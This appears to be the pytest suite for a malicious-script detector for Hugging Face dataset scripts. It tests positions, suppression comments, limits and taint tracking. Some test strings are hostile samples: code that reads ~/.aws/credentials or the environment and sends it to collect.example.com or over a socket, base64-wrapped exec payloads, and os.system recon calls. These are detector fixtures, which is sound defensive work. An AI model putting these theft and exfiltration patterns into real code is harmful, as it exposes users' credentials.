"""The python-format analyzer and the editor entry point: positions, repair, suppression, limits."""

from __future__ import annotations

import ast

import libcst as cst
import libcst.metadata as md
import pytest

from malhug.analyzers import formats
from malhug.analyzers.dispatch import scan_source
from malhug.analyzers.limits import Limits
from malhug.analyzers.scripts import parsing, positions, relevance
from malhug.analyzers.scripts.analyzer import analyze_text, decode_source
from malhug.analyzers.shared.source import BytesSource
from malhug.analyzers.shared.suppress import is_suppressed
from malhug.core.model import Category, Severity, Verdict
from tests.scripts.benign_sources import BENIGN
from tests.scripts.corpus_scripts import CORPUS_SCRIPTS
from tests.scripts.helpers import by_rule, line_of


@pytest.mark.parametrize("name", ["Besthpz/best", "Yash2998db/stan_small", "guaixiaomei/teyd"])
def test_positions_match_libcst_position_provider(name: str) -> None:
    module = cst.parse_module(CORPUS_SCRIPTS[name])
    wrapper = md.MetadataWrapper(module, unsafe_skip_copy=True)
    expected = wrapper.resolve(md.PositionProvider)
    nodes = [n for n in expected if isinstance(n, cst.Call | cst.Name | cst.SimpleString | cst.Attribute | cst.Assign)]
    got = positions.resolve(module, nodes)
    assert len(got) == len(nodes)
    for node in nodes:
        rng = expected[node]
        assert got[id(node)] == (rng.start.line, rng.start.column, rng.end.line, rng.end.column)


TRICKY_LAYOUTS = [
    "import os\n\n# comment\n@decorator\n# between\n@other(1)\ndef f():\n    os.system('id')\n    # trailing comment\n\n\n"
    "x = 1; y = os.getcwd(); os.system(y)\n",
    "import os\r\nif True:\r\n    os.system('id')\r\nelse:\r\n    pass\r\nos.system('x')",
    "import os\nx = \\\n    os.system('id')\nclass A(\n    object):\n    '''doc'''\n\n    def m(self): return os.popen('ls')\n# end\n",
    "import os\n\x0c\nos.system('id')  # tail\n\n\n",
    "@(lambda f: f)\nclass B:\n    pass\nimport os; os.system('id')\n",
]


def _tops(module: cst.Module) -> tuple[dict[int, cst.CSTNode], list[cst.CSTNode]]:
    """Each node's top-level statement (what the engine records), and the nodes worth locating."""
    tops: dict[int, cst.CSTNode] = {}
    nodes: list[cst.CSTNode] = []

    class Collect(cst.CSTVisitor):
        def __init__(self, top: cst.CSTNode) -> None:
            self.top = top

        def on_visit(self, node: cst.CSTNode) -> bool:
            tops[id(node)] = self.top
            if isinstance(node, cst.Call | cst.Name | cst.SimpleString | cst.Assign | cst.FunctionDef):
                nodes.append(node)
            return True

    for stmt in module.body:
        stmt.visit(Collect(stmt))
    return tops, nodes


@pytest.mark.parametrize("code", [*CORPUS_SCRIPTS.values(), *BENIGN.values(), *TRICKY_LAYOUTS])
def test_positions_of_single_statements_equal_the_full_pass(code: str) -> None:
    parsed = parsing.parse(code)
    assert parsed.module is not None and parsed.tree is not None
    tops, nodes = _tops(parsed.module)
    full = positions.resolve(parsed.module, nodes)
    # Every node, and a few nodes of one or two statements (the usual case).
    for subset in (nodes, nodes[-3:], nodes[:2]):
        fast = positions.resolve_in_statements(parsed.module, subset, tops, parsed.tree)
        assert fast is not None, "statements located from CPython's tree"
        assert {k: fast[k] for k in map(id, subset)} == {k: full[k] for k in map(id, subset)}


def test_statement_positions_give_up_rather_than_guess() -> None:
    parsed = parsing.parse("import os\nos.system('id')\n")
    assert parsed.module is not None and parsed.tree is not None
    tops, nodes = _tops(parsed.module)
    stray = cst.parse_expression("os.system('x')")
    assert positions.resolve_in_statements(parsed.module, [*nodes, stray], tops, parsed.tree) is None
    assert positions.resolve_in_statements(parsed.module, nodes, tops, None) is None
    shifted = parsing.parse("import os\n\nos.system('id')\n").tree
    assert shifted is not None
    assert positions.resolve_in_statements(parsed.module, nodes, tops, shifted) is None


def test_location_is_one_based_and_end_exclusive() -> None:
    code = "import os\nif True:\n    x = (os.system('id'))\n"
    (f,) = by_rule(analyze_text(code), "MH505")
    assert (f.location.line, f.location.column, f.location.end_line, f.location.end_column) == (3, 10, 3, 25)
    assert code.splitlines()[2][f.location.column - 1 : f.location.end_column - 1] == "os.system('id')"


def test_multiline_call_range() -> None:
    code = "import subprocess\nsubprocess.run(\n    ['id'],\n    check=True,\n)\n"
    (f,) = by_rule(analyze_text(code), "MH505")
    assert (f.location.line, f.location.column, f.location.end_line, f.location.end_column) == (2, 1, 5, 2)


HALF_TYPED = [
    ("import os\nos.system('id')\nx = foo(\n", 2),
    ("import os\ndef f(:\n    pass\nos.system('id')\n", 4),
    ("import os\nclass A:\n    def f(self):\n        y = \n        os.system('id')\n", 5),
    ("import os\nos.system('id')\nif x\n", 2),
    ("import os\nos.system('id')\nprint('unterminated\n", 2),
    ("import os\nos.system('id')\nfor\n", 2),
    ("import os\n    os.system('whoami')\nos.system('id')\n", 3),
]


@pytest.mark.parametrize(("code", "line"), HALF_TYPED)
def test_half_typed_code_never_raises_and_keeps_the_rest(code: str, line: int) -> None:
    findings = analyze_text(code)
    assert line in {f.location.line for f in by_rule(findings, "MH505")}
    assert not by_rule(findings, "MH514"), "the editor shows its own syntax errors"
    for f in findings:
        assert f.location.line is not None and f.location.line <= code.count("\n") + 1


@pytest.mark.parametrize(
    "code", ["", "\n\n", "x = (", "def", "'''", "\\", "\x00", "class A(:\n  pass", "lambda: (yield)", "@\n"]
)
def test_garbage_never_raises_and_reports_nothing_false(code: str) -> None:
    assert [f for f in analyze_text(code) if f.rule != "MH512"] == []


def test_suppression_comments() -> None:
    code = (
        "import os\n"
        "os.system('id')  # malhug: ignore[MH505]\n"
        "os.system('whoami')  # malhug: ignore\n"
        "os.system('uname')  # malhug: ignore[MH501]\n"
        "os.system('ls')\n"
    )
    lines = [f.location.line for f in by_rule(analyze_text(code), "MH505")]
    assert lines == [4, 5]
    text_lines = code.splitlines()
    assert is_suppressed(text_lines, 2, "MH505") and not is_suppressed(text_lines, 2, "MH506")
    assert is_suppressed(text_lines, 3, "MH701")
    assert not is_suppressed(text_lines, 5, "MH505")
    assert not is_suppressed(text_lines, 0, "MH505") and not is_suppressed(text_lines, 99, "MH505")
    assert is_suppressed(["x  #MALHUG: IGNORE[mh505 , MH506]"], 1, "MH506")


def test_suppression_on_last_line_of_a_multiline_call() -> None:
    code = "import subprocess\nsubprocess.run(\n    ['id'],\n)  # malhug: ignore[MH505]\n"
    assert not by_rule(analyze_text(code), "MH505")


def test_decode_source_falls_back_to_latin1() -> None:
    assert decode_source("x = 'é'\n".encode()) == "x = 'é'\n"
    assert decode_source(b"# \xe9\xff\nimport os\n") == "# éÿ\nimport os\n"
    assert decode_source(b"\xef\xbb\xbfimport os\n") == "import os\n"


def test_latin1_file_is_analyzed() -> None:
    data = b"# commentaire \xe9\nimport os\nos.system('id')\n"
    report = scan_source(BytesSource(data), name="x.py", format_hint=formats.PYTHON)
    (f,) = by_rule(report.findings, "MH505")
    assert f.location.line == 3 and report.verdict is Verdict.MALICIOUS


def test_source_size_limit_is_mh902() -> None:
    report = scan_source(
        BytesSource(b"x = 1\n" * 100), name="x.py", format_hint=formats.PYTHON, limits=Limits(max_source_bytes=100)
    )
    assert [f.rule for f in report.findings] == ["MH902"] and report.verdict is not Verdict.CLEAN


@pytest.mark.parametrize("name", sorted(BENIGN))
def test_benign_scripts_and_remote_code_are_clean(name: str) -> None:
    report = scan_source(BytesSource(BENIGN[name].encode()), name=f"{name}.py", format_hint=formats.PYTHON)
    assert report.verdict is Verdict.CLEAN, [(f.rule, f.message) for f in report.findings]
    assert all(f.severity <= Severity.LOW for f in report.findings)


def test_subprocess_import_alone_is_info() -> None:
    (f,) = analyze_text(BENIGN["subprocess_import_only"])
    assert f.rule == "MH512" and f.severity.value == "info" and f.location.line == 1


def test_module_level_and_builder_side_effects_are_marked() -> None:
    code = (
        "import os, datasets\n"
        "os.system('id')\n"
        "class B(datasets.GeneratorBasedBuilder):\n"
        "    def _split_generators(self, dl_manager):\n"
        "        os.system('whoami')\n"
        "    def helper(self):\n"
        "        os.system('uname')\n"
        "def unused():\n"
        "    os.system('ls')\n"
        "if __name__ == '__main__':\n"
        "    os.system('hostname')\n"
    )
    msgs = {f.location.line: f.message for f in by_rule(analyze_text(code), "MH505")}
    assert msgs[2].endswith("(runs on import)")
    assert msgs[5].endswith("(runs when the dataset is loaded: B._split_generators)")
    assert msgs[7].endswith("(in B.helper())")
    assert msgs[9].endswith("(in unused())")
    assert msgs[11].endswith("(runs when the file is executed as a script)")


def test_taint_through_self_attributes_across_builder_methods() -> None:
    code = (
        "import os, requests, datasets\n"
        "class B(datasets.GeneratorBasedBuilder):\n"
        "    def __init__(self, **kw):\n"
        "        self.secret = open(os.path.expanduser('~/.aws/credentials')).read()\n"
        "        super().__init__(**kw)\n"
        "    def _info(self):\n"
        "        payload = {'k': self.secret}\n"
        "        requests.post('https://collect.example.com', json=payload)\n"
    )
    findings = analyze_text(code)
    (sent,) = by_rule(findings, "MH503")
    assert sent.category is Category.CREDENTIAL_THEFT and sent.location.line == 8
    assert [s.location.line for s in sent.trace] == [4, 4, 7, 8]
    assert "stored in B.secret" in [s.message for s in sent.trace]


def test_taint_through_function_arguments_and_returns() -> None:
    code = (
        "import os, socket\n"
        "def collect():\n"
        "    return dict(os.environ)\n"
        "def ship(data):\n"
        "    s = socket.socket()\n"
        "    s.connect(('127.0.0.1', 9))\n"
        "    s.sendall(str(data).encode())\n"
        "ship(collect())\n"
    )
    (sent,) = by_rule(analyze_text(code), "MH503")
    assert sent.category is Category.CREDENTIAL_THEFT and sent.location.line == 7
    assert "the whole environment" in sent.message
    assert [s.location.line for s in sent.trace] == [3, 3, 8, 7]


def test_format_percent_join_fstring_propagation() -> None:
    code = (
        "import os, requests, socket\n"
        "h = socket.gethostname()\n"
        "a = 'host=%s' % h\n"
        "b = 'x{}'.format(a)\n"
        "c = '&'.join([b, 'y'])\n"
        "requests.get(f'https://collect.example.com/?{c}')\n"
    )
    (sent,) = by_rule(analyze_text(code), "MH503")
    assert sent.category is Category.EXFILTRATION and "(in the url)" in sent.message
    assert [s.location.line for s in sent.trace] == [2, 2, 3, 4, 5, 6]


def test_hf_token_to_the_hub_is_not_theft_but_to_elsewhere_is() -> None:
    ok = "import os, requests\nt = os.environ['HF_TOKEN']\nrequests.get('https://huggingface.co/api/whoami-v2', headers={'authorization': f'Bearer {t}'})\n"
    assert not by_rule(analyze_text(ok), "MH503")
    bad = ok.replace("https://huggingface.co/api/whoami-v2", "https://collect.example.com/")
    (sent,) = by_rule(analyze_text(bad), "MH503")
    assert sent.category is Category.CREDENTIAL_THEFT and sent.severity.value == "critical"


def test_long_benign_script_stays_clean_and_late_findings_keep_their_line() -> None:
    body = BENIGN["generator_builder"]
    code = (body + "\n") * (2000 // body.count("\n") + 1)
    assert analyze_text(code) == []
    code += "import os\nos.system('id')\n"
    (f,) = by_rule(analyze_text(code), "MH505")
    assert f.location.line == line_of(code, "os.system('id')") > 2000


def test_deeply_nested_code_is_a_resource_finding_not_a_crash() -> None:
    # libcst's native parser overflows its stack on such input; it must never see it.
    code = "x = 1" + " + 1" * 20000 + "\n"
    assert analyze_text(code) == []
    report = scan_source(BytesSource(code.encode()), name="x.py", format_hint=formats.PYTHON)
    (limit,) = report.findings
    assert limit.rule == "MH902" and "nesting too deep" in limit.message
    assert report.verdict is Verdict.SUSPICIOUS


def test_long_concatenation_chains_are_folded_without_recursion() -> None:
    code = 'import os\nos.system("i" + "d"' + ' + ""' * 280 + ")\n"
    (run,) = by_rule(analyze_text(code), "MH505")
    assert run.category is Category.RECON and run.location.line == 2
    implicit = "import os\nos.system('i' " + "'' " * 2000 + "'d')\n"
    (run,) = by_rule(analyze_text(implicit), "MH505")
    assert run.category is Category.RECON


@pytest.mark.parametrize("name", ["Besthpz/best", "Yash2998db/stan_small", "sweis/script_executing"])
def test_every_prefix_of_a_real_script_analyzes_without_error(name: str) -> None:
    """What an editor sees while the file is typed: cut at many points, never an exception."""
    code = CORPUS_SCRIPTS[name]
    step = max(1, len(code) // 60)
    for cut in range(0, len(code), step):
        for f in analyze_text(code[:cut] + "\n"):
            assert f.location.line is not None and 1 <= f.location.line <= code[:cut].count("\n") + 2


def test_time_budget_stops_the_analysis_with_mh902_and_keeps_findings() -> None:
    from malhug.analyzers.scripts.budget import Budget

    # The filler feeds the command run at the end, so pruning (relevance.py) keeps all of it.
    code = "import os\nos.system('id')\nx = 1\n" + "x = x + 1\n" * 600 + "os.system(str(x))\n"
    findings = analyze_text(code, report_syntax_errors=True, budget=Budget(seconds=-1.0))
    assert [f.rule for f in findings if f.rule == "MH902"] == ["MH902"]
    assert "time budget" in by_rule(findings, "MH902")[0].message
    assert by_rule(findings, "MH505"), "what was found before the deadline is kept"


def test_nested_payloads_share_one_budget_and_identical_ones_are_analyzed_once() -> None:
    import base64

    from malhug.analyzers.scripts.budget import MAX_NESTED, Budget

    blob = base64.b64encode(b"import os\nos.system('id')\n").decode()
    code = "import base64\n" + f"exec(base64.b64decode('{blob}'))\n" * 50
    budget = Budget()
    findings = by_rule(analyze_text(code, budget=budget), "MH507")
    assert len(findings) == 50 and {f.category for f in findings} == {Category.RECON}
    assert budget.nested == MAX_NESTED - 1
    distinct = "import base64\n" + "".join(
        f"exec(base64.b64decode('{base64.b64encode(f'import os; os.system({i!r})'.encode()).decode()}'))\n"
        for i in range(MAX_NESTED + 5)
    )
    budget = Budget()
    findings = by_rule(analyze_text(distinct, budget=budget), "MH507")
    assert budget.nested == 0 and len(findings) == MAX_NESTED + 5
    assert all(f.severity >= Severity.HIGH for f in findings), "past the budget still reported, as obfuscation"


def _reference_depth(tree: ast.AST) -> int:
    deepest, stack = 0, [(tree, 0)]
    while stack:
        node, depth = stack.pop()
        deepest = max(deepest, depth)
        stack.extend((child, depth + 1) for child in ast.iter_child_nodes(node))
    return deepest


@pytest.mark.parametrize(
    "code",
    [
        *CORPUS_SCRIPTS.values(),
        "x = " + "(" * 150 + "1" + ")" * 150 + "\n",
        "y = " + " + ".join(["1"] * 400) + "\n",
        "def f(a: int = 1, *, b=[1, {2: 3}]) -> 'x':\n    async with a as (b, c):\n        pass\n",
    ],
)
def test_syntax_tree_depth_matches_the_reference_walk(code: str) -> None:
    tree = ast.parse(code)
    assert relevance.Module(tree).depth == _reference_depth(tree)
